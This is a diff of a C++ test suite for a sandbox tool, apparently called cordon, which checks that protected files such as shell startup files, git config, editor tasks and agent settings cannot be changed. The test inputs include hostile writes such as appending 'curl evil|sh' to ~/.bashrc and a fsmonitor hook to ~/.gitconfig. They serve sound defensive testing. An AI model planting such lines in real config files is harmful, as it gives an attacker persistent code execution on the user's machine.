@@ -11,23 +11,6 @@ using namespace cordon_test;
 
 namespace {
 
-// Every path under `root` with its contents ("dir" for directories, "-> target" for links).
-std::map<std::string, std::string> tree(const std::string& root) {
-  std::map<std::string, std::string> out;
-  std::error_code ec;
-  for (auto it = fs::recursive_directory_iterator(root, ec); it != fs::recursive_directory_iterator();
-       it.increment(ec)) {
-    const auto rel = fs::relative(it->path(), root, ec).string();
-    if (it->is_symlink(ec))
-      out[rel] = "-> " + fs::read_symlink(it->path(), ec).string();
-    else if (it->is_directory(ec))
-      out[rel] = "dir";
-    else
-      out[rel] = read_file(it->path().string());
-  }
-  return out;
-}
-
 // The workspace once cordon's placeholders (empty files and directories it made for
 // absent protected names) are gone: they linger briefly after the run.
 // `ignore`: a prefix left out of the comparison (cordon's own state under a fake home).
@@ -39,10 +22,10 @@ std::map<std::string, std::string> settled_tree(const std::string& root,
     return t;
   };
   expected = filtered(expected);
-  auto now = filtered(tree(root));
+  auto now = filtered(snapshot(root));
   for (int waited = 0; waited < 5000 && now != expected; waited += 50) {
     ::usleep(50 * 1000);
-    now = filtered(tree(root));
+    now = filtered(snapshot(root));
   }
   return now;
 }
@@ -52,7 +35,7 @@ std::map<std::string, std::string> settled_tree(const std::string& root,
 TEST(ProtectedNames, NoEntryOfTheListCanBeCreatedAtTheTopOfTheWorkspace) {
   Sandbox box;
   write_file(box.ws / "README", "readme\n");
-  const auto before = tree(box.ws.path());
+  const auto before = snapshot(box.ws.path());
   std::string script = "echo ok > normal.txt; ";
   for (const auto& e : cordon::defaults::protected_name_entries()) {
     const std::string n = sh_quote(e.name);
@@ -75,7 +58,7 @@ TEST(ProtectedNames, ExistingNamesAtDepthCannotBeChangedOrReplaced) {
   write_file(box.ws / "sub/.claude/settings.json", "{}\n");
   write_file(box.ws / "a/b/.envrc", "export A=1\n");
   write_file(box.ws / "sub/code.c", "int main;\n");
-  const auto before = tree(box.ws.path());
+  const auto before = snapshot(box.ws.path());
   auto o = box.sh(
       "echo ok > normal.txt; echo 'int x;' > sub/code.c; "
       "echo evil > sub/.vscode/tasks.json; echo evil > sub/.claude/settings.json; "
@@ -139,7 +122,7 @@ TEST(ProtectedNames, AWritableHomeKeepsStartupFilesAndGitConfigAfterWritesAndRen
   write_file(box.home / ".gitconfig", "[user]\n\tname = a\n");
   write_file(box.home / ".config/git/config", "[core]\n\tpager = less\n");
   write_file(box.home / ".config/other/app.conf", "x=1\n");
-  const auto before = tree(box.home.path());
+  const auto before = snapshot(box.home.path());
   auto o = box.sh(
       "echo ok > ~/notes.txt; echo y=2 > ~/.config/other/app.conf; "
       "echo 'curl evil|sh' >> ~/.bashrc; echo '[core]fsmonitor=evil' >> ~/.gitconfig; "
